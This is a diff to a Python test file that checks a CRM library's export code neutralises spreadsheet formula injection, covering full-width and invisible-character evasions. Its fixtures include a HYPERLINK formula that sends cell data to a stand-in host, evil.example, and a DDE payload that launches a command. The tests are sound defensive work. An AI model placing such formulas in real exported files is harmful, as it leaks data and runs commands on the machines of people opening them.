@@ -18,14 +18,41 @@ from crmlib.segments import write_segment_exports
 from crmlib.segments.xlsx import write_xlsx
 
 PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
-           "\tTAB=1", "\rCR=1", "=cmd|' /C calc'!A0"]
-DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+           "\tTAB=1", "\rCR=1", "=cmd|' /C calc'!A0", "\uff1dHYPERLINK(\"http://evil\")", "\uff0b1+1",
+           "\uff20SUM(A1)", "\uff0d1+1"]
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\ufeff", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ")
 
 
 def test_neutralise_formulas_by_hand():
     values = pd.Series(["=1+1", "+x", "-y", "@z", "\tq", "\rr", "ok", "a=b", "'=already", ""], dtype="str")
     assert neutralise_formulas(values).tolist() == [
         "'=1+1", "'+x", "'-y", "'@z", "'\tq", "'\rr", "ok", "a=b", "'=already", ""]
+
+
+# A sign after whitespace, a control or an invisible character, or a full-width / small sign:
+# spreadsheets trim the first and read the second as ASCII on input (issue #19 item 15).
+HIDDEN_SIGNS = ["\n=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0bSUM(1)", "\uff0d2+3", "\uff20SUM(A1)",
+                " =1+1", "\u3000=1+1", "\x00=1", "\u200b+1", "\u00a0-1", "\ufe661", "\u22121+1"]
+HARMLESS = ["ok", "a=b", "12-345", "\u3000ok", " x", "\ufeffC001", "\uff21\uff22"]
+
+
+def test_neutralise_formulas_hidden_and_full_width_signs():
+    values = pd.Series(HIDDEN_SIGNS + HARMLESS, dtype="str")
+    assert neutralise_formulas(values).tolist() == ["'" + v for v in HIDDEN_SIGNS] + HARMLESS
+
+
+def test_duckdb_lists_quote_the_same_cells_as_pandas():
+    """The CSV lists are written by DuckDB with the same pattern (RE2): same cells quoted."""
+    import duckdb
+
+    from crmlib.safe_cells import FORMULA_START
+    from crmlib.sql import sql_literal
+
+    values = HIDDEN_SIGNS + HARMLESS + PLANTED
+    flags = duckdb.connect().execute(
+        f"SELECT regexp_matches(x, {sql_literal(FORMULA_START)}) FROM unnest(?) WITH ORDINALITY t(x, i) ORDER BY i",
+        [values]).fetchall()
+    assert [f[0] for f in flags] == [True] * len(HIDDEN_SIGNS) + [False] * len(HARMLESS) + [True] * len(PLANTED)
 
 
 @pytest.fixture()
@@ -87,3 +114,21 @@ def test_xlsx_writer_quotes_text_but_not_numbers(tmp_path):
     book = openpyxl.load_workbook(write_xlsx(tmp_path / "x.xlsx", [("s", frame)]), read_only=True)
     rows = list(book.worksheets[0].iter_rows(values_only=True))
     assert rows[1:] == [("'=1+1", -5, -1.5), ("'-5", 3, 2), ("ok", 0, 0)]
+
+
+from hypothesis import given  # noqa: E402
+from hypothesis import strategies as st  # noqa: E402
+
+LEADING = [" ", "\t", "\n", "\r", "\x00", "\x1f", "\u00a0", "\u200b", "\u3000", "\ufeff", "\u2060"]
+SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u2212"]
+
+
+@given(st.lists(st.sampled_from(LEADING), max_size=4), st.sampled_from(SIGNS), st.text(max_size=20))
+def test_any_sign_after_invisible_characters_is_quoted(leading, sign, rest):
+    value = "".join(leading) + sign + rest
+    assert neutralise_formulas(pd.Series([value], dtype="str")).tolist() == ["'" + value]
+
+
+@given(st.text(min_size=1, max_size=20).filter(lambda s: s[0].isalnum()))
+def test_text_starting_with_a_letter_or_digit_is_left_alone(value):
+    assert neutralise_formulas(pd.Series([value], dtype="str")).tolist() == [value]
